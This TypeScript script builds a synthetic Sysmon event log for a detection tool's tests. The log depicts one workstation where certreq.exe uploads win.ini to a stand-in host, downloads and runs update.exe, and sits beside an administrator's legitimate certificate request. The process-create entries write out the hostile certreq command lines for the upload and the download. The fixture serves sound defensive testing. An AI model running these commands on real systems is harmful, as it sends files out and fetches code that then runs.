/**
 * Writes samples/sysmon-ws05.evtx: a small Sysmon Operational log, in the binary EVTX format, of one workstation's
 * certreq story — an upload of win.ini, a download whose written file then runs, an administrator's legitimate
 * certificate request, and the process, network, DNS, file and termination events around them.
 *
 * It is written by the project's own test EVTX writer (test/evtx/writer), so the repository ships an EVTX
 * sample of its own; test/samples/evtx-sample.test.ts proves the committed file is what this script writes.
 *   node --import tsx scripts/make-sample-evtx.ts [output]
 */
import { writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { defaultSystem, fileTime, windowsEvent, writeEvtx, type DataField, type RecordSpec } from '../test/evtx/writer/index.js';

const HOST = 'WS05.corp.example';
const USER = 'CORP\\jdoe';
const ADMIN = 'CORP\\pkiadmin';
const LOGON_GUID = '{5b7e9a10-4e05-6632-0000-0020a1b2c3d4}';
const SYSMON_PID = 2044;

interface Proc {
  guid: string;
  pid: number;
  image: string;
  commandLine: string;
  user: string;
  originalFileName: string;
  description: string;
}

const explorer: Proc = proc(3000, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', USER, 'EXPLORER.EXE', 'Windows Explorer');
const cmd: Proc = proc(4100, 'C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\system32\\cmd.exe"', USER, 'Cmd.Exe', 'Windows Command Processor');
const upload: Proc = proc(
  4200,
  'C:\\Windows\\System32\\certreq.exe',
  'certreq.exe -Post -config https://files.example-cdn.net/upload C:\\Windows\\win.ini C:\\Users\\Public\\resp.txt',
  USER,
  'CertReq.exe',
  'CertReq.exe',
);
const download: Proc = proc(
  4300,
  'C:\\Windows\\System32\\certreq.exe',
  'certreq -Post -config http://files.example-cdn.net/p.bin C:\\Windows\\win.ini C:\\Users\\Public\\update.exe',
  USER,
  'CertReq.exe',
  'CertReq.exe',
);
const payload: Proc = proc(4400, 'C:\\Users\\Public\\update.exe', 'C:\\Users\\Public\\update.exe /quiet', USER, 'update.exe', '');
const adminShell: Proc = proc(5000, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe', ADMIN, 'PowerShell.EXE', 'Windows PowerShell');
const adminRequest: Proc = proc(
  5100,
  'C:\\Windows\\System32\\certreq.exe',
  'certreq.exe -submit -config "CA01.corp.example\\Corp Issuing CA" C:\\PKI\\web01.req C:\\PKI\\web01.cer',
  ADMIN,
  'CertReq.exe',
  'CertReq.exe',
);
const notepad: Proc = proc(5200, 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\jdoe\\notes.txt', USER, 'NOTEPAD.EXE', 'Notepad');

function proc(pid: number, image: string, commandLine: string, user: string, originalFileName: string, description: string): Proc {
  const guid = `{5b7e9a10-4e05-6632-${pid.toString(16).padStart(4, '0')}-000000006500}`;
  return { guid, pid, image, commandLine, user, originalFileName, description };
}

const s = (name: string, value: string): DataField => ({ name, value: { type: 'string', value } });

function processCreate(p: Proc, parent: Proc, utc: string): DataField[] {
  return [
    s('RuleName', '-'),
    s('UtcTime', utc),
    s('ProcessGuid', p.guid),
    s('ProcessId', String(p.pid)),
    s('Image', p.image),
    s('FileVersion', p.originalFileName === 'update.exe' ? '-' : '10.0.19041.1 (WinBuild.160101.0800)'),
    s('Description', p.description || '-'),
    s('Product', p.originalFileName === 'update.exe' ? '-' : 'Microsoft® Windows® Operating System'),
    s('Company', p.originalFileName === 'update.exe' ? '-' : 'Microsoft Corporation'),
    s('OriginalFileName', p.originalFileName),
    s('CommandLine', p.commandLine),
    s('CurrentDirectory', 'C:\\Users\\Public\\'),
    s('User', p.user),
    s('LogonGuid', LOGON_GUID),
    s('LogonId', '0x3e7a1'),
    s('TerminalSessionId', '1'),
    s('IntegrityLevel', 'Medium'),
    s('Hashes', `SHA256=${sha256Of(p.image)},IMPHASH=${'0'.repeat(31)}${p.pid % 10}`),
    s('ParentProcessGuid', parent.guid),
    s('ParentProcessId', String(parent.pid)),
    s('ParentImage', parent.image),
    s('ParentCommandLine', parent.commandLine),
    s('ParentUser', parent.user),
  ];
}

/** A stable, made-up digest per image: the sample carries no real file hashes. */
function sha256Of(image: string): string {
  let h = 2166136261;
  for (const c of image) h = Math.imul(h ^ c.charCodeAt(0), 16777619) >>> 0;
  return h.toString(16).toUpperCase().padStart(8, '0').repeat(8);
}

function processTerminate(p: Proc, utc: string): DataField[] {
  return [s('RuleName', '-'), s('UtcTime', utc), s('ProcessGuid', p.guid), s('ProcessId', String(p.pid)), s('Image', p.image), s('User', p.user)];
}

function networkConnect(p: Proc, utc: string, destinationIp: string, destinationHost: string, port: number): DataField[] {
  return [
    s('RuleName', '-'),
    s('UtcTime', utc),
    s('ProcessGuid', p.guid),
    s('ProcessId', String(p.pid)),
    s('Image', p.image),
    s('User', p.user),
    s('Protocol', 'tcp'),
    s('Initiated', 'true'),
    s('SourceIsIpv6', 'false'),
    s('SourceIp', '10.20.5.15'),
    s('SourceHostname', HOST),
    s('SourcePort', String(49700 + (p.pid % 100))),
    s('SourcePortName', '-'),
    s('DestinationIsIpv6', 'false'),
    s('DestinationIp', destinationIp),
    s('DestinationHostname', destinationHost),
    s('DestinationPort', String(port)),
    s('DestinationPortName', port === 443 ? 'https' : 'http'),
  ];
}

function dnsQuery(p: Proc, utc: string, name: string, answer: string): DataField[] {
  return [
    s('RuleName', '-'),
    s('UtcTime', utc),
    s('ProcessGuid', p.guid),
    s('ProcessId', String(p.pid)),
    s('QueryName', name),
    s('QueryStatus', '0'),
    s('QueryResults', `::ffff:${answer};`),
    s('Image', p.image),
    s('User', p.user),
  ];
}

function fileCreate(p: Proc, utc: string, target: string): DataField[] {
  return [
    s('RuleName', '-'),
    s('UtcTime', utc),
    s('ProcessGuid', p.guid),
    s('ProcessId', String(p.pid)),
    s('Image', p.image),
    s('TargetFilename', target),
    s('CreationUtcTime', utc),
    s('User', p.user),
  ];
}

const TASKS: Record<number, number> = { 1: 1, 3: 3, 5: 5, 11: 11, 22: 22 };

/** The story, in time order: [Sysmon event id, time (UTC, ms), fields]. */
const STORY: [number, string, DataField[]][] = [
  [1, '2024-05-01 13:00:01.100', processCreate(cmd, explorer, '2024-05-01 13:00:01.100')],
  [1, '2024-05-01 13:00:07.250', processCreate(upload, cmd, '2024-05-01 13:00:07.250')],
  [22, '2024-05-01 13:00:07.310', dnsQuery(upload, '2024-05-01 13:00:07.310', 'files.example-cdn.net', '203.0.113.50')],
  [3, '2024-05-01 13:00:07.402', networkConnect(upload, '2024-05-01 13:00:07.402', '203.0.113.50', 'files.example-cdn.net', 443)],
  [11, '2024-05-01 13:00:07.870', fileCreate(upload, '2024-05-01 13:00:07.870', 'C:\\Users\\Public\\resp.txt')],
  [5, '2024-05-01 13:00:08.015', processTerminate(upload, '2024-05-01 13:00:08.015')],
  [1, '2024-05-01 13:01:12.500', processCreate(download, cmd, '2024-05-01 13:01:12.500')],
  [22, '2024-05-01 13:01:12.560', dnsQuery(download, '2024-05-01 13:01:12.560', 'files.example-cdn.net', '203.0.113.50')],
  [3, '2024-05-01 13:01:12.640', networkConnect(download, '2024-05-01 13:01:12.640', '203.0.113.50', 'files.example-cdn.net', 80)],
  [11, '2024-05-01 13:01:13.020', fileCreate(download, '2024-05-01 13:01:13.020', 'C:\\Users\\Public\\update.exe')],
  [5, '2024-05-01 13:01:13.100', processTerminate(download, '2024-05-01 13:01:13.100')],
  [1, '2024-05-01 13:01:20.750', processCreate(payload, cmd, '2024-05-01 13:01:20.750')],
  [3, '2024-05-01 13:01:21.300', networkConnect(payload, '2024-05-01 13:01:21.300', '198.51.100.23', '-', 8443)],
  [1, '2024-05-01 13:05:00.000', processCreate(notepad, explorer, '2024-05-01 13:05:00.000')],
  [1, '2024-05-01 14:10:30.400', processCreate(adminShell, explorer, '2024-05-01 14:10:30.400')],
  [1, '2024-05-01 14:10:44.900', processCreate(adminRequest, adminShell, '2024-05-01 14:10:44.900')],
  [5, '2024-05-01 14:10:46.200', processTerminate(adminRequest, '2024-05-01 14:10:46.200')],
];

export function sampleRecords(): RecordSpec[] {
  return STORY.map(([eventId, utc, fields], i) =>
    windowsEvent(
      defaultSystem({
        eventId,
        task: TASKS[eventId] ?? 0,
        timeCreated: fileTime(`${utc.replace(' ', 'T')}Z`, 1234),
        recordId: BigInt(5001 + i),
        processId: SYSMON_PID,
        threadId: 3100 + i,
        computer: HOST,
      }),
      fields,
      { nested: true },
    ),
  );
}

export function sampleEvtx(): Uint8Array {
  return writeEvtx(sampleRecords()).bytes;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const out = process.argv[2] ?? fileURLToPath(new URL('../samples/sysmon-ws05.evtx', import.meta.url));
  writeFileSync(out, sampleEvtx());
  console.log(`wrote ${out}`);
}
